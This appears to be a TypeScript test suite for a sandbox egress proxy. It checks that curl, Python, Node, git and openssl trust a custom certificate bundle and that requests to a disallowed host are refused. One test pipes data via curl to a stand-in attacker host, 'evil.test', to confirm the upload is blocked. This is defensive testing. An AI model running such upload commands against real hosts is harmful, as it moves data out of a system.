import { execFile } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import type { RequestListener } from 'node:http';
import path from 'node:path';
import { promisify } from 'node:util';
import { startRelay } from './support/relay.ts';
import { type StandardWorld, startStandardWorld } from './support/standard-world.ts';
import { S1 } from './support/world.ts';

const run = promisify(execFile);
let standard: StandardWorld;
let relay: Awaited<ReturnType<typeof startRelay>>;

const onRequest: RequestListener = (request, response) => {
  let bytes = 0;
  request.on('data', (chunk: Buffer) => (bytes += chunk.length));
  request.on('end', () => response.end(`${request.method} ${bytes}`));
};

beforeAll(async () => {
  standard = await startStandardWorld({ onRequest });
  relay = await startRelay(path.join(standard.world.folder, 'run', S1, 'proxy.sock'));
});
afterAll(async () => {
  await relay[Symbol.asyncDispose]();
  await standard[Symbol.asyncDispose]();
});

function environment(): NodeJS.ProcessEnv {
  const bundle = path.join(standard.world.folder, 'ca.pem');
  return {
    PATH: process.env.PATH,
    HTTPS_PROXY: relay.url,
    https_proxy: relay.url,
    HTTP_PROXY: relay.url,
    http_proxy: relay.url,
    SSL_CERT_FILE: bundle,
    CURL_CA_BUNDLE: bundle,
    NODE_EXTRA_CA_CERTS: bundle,
    NODE_USE_ENV_PROXY: '1',
  };
}

const shell = (command: string) => run('/bin/sh', ['-c', command], { env: environment(), timeout: 20_000 });

test('curl trusts the bundle, sends a body, and shows why it was refused', async () => {
  expect((await shell('curl -sS https://api.a.test/x')).stdout).toBe('GET 0');
  expect((await shell('head -c 3000000 /dev/zero | curl -sS --data-binary @- https://api.a.test/x')).stdout).toBe(
    'POST 3000000',
  );
  expect((await shell('curl -sS -w "%{http_code}" -o /dev/null http://plain.test/')).stdout).toBe('200');
  // A body is still on its way when the answer is there.
  const refused = await shell(
    'head -c 3000000 /dev/zero | curl -sS -w "%{http_code}" --data-binary @- http://evil.test/x',
  );
  expect(refused.stdout).toContain('"code":"not_allowed"');
  expect(refused.stdout).toMatch(/403$/);
  await expect(shell('curl -sS https://evil.test/')).rejects.toMatchObject({ stderr: expect.stringContaining('403') });
});

test('Python verifies the certificate at its strictest', async () => {
  const script = path.join(standard.world.folder, 'get.py');
  writeFileSync(
    script,
    `import ssl, urllib.request
context = ssl.create_default_context()
context.verify_flags |= ssl.VERIFY_X509_STRICT
print(urllib.request.build_opener(urllib.request.ProxyHandler(), urllib.request.HTTPSHandler(context=context)).open('https://api.a.test/x').read().decode())
`,
  );
  expect((await shell(`python3 ${script}`)).stdout).toBe('GET 0\n');
});

test('Node fetches through the proxy', async () => {
  const script =
    "fetch('https://api.a.test/x', { method: 'POST', body: 'abc' }).then((r) => r.text()).then(console.log)";
  expect((await run(process.execPath, ['-e', script], { env: environment() })).stdout).toBe('POST 3\n');
});

test('git speaks through it, and is told of a refusal', async () => {
  const command = 'GIT_TERMINAL_PROMPT=0 git -c http.sslCAInfo=$SSL_CERT_FILE ls-remote';
  await expect(shell(`${command} https://evil.test/x.git`)).rejects.toMatchObject({
    stderr: expect.stringContaining('403'),
  });
  await shell(`${command} https://pypi.test/x.git`);
  expect(standard.origin.received('pypi.test')).toContain('/x.git/info/refs?service=git-upload-pack');
});

test('openssl verifies the chain for its purpose', async () => {
  const host = relay.url.slice('http://'.length);
  const { stdout } = await shell(
    `echo | openssl s_client -proxy ${host} -connect api.a.test:443 -servername api.a.test -CAfile $SSL_CERT_FILE -x509_strict -purpose sslserver -verify_hostname api.a.test 2>&1`,
  );
  expect(stdout).toContain('Verify return code: 0 (ok)');
});
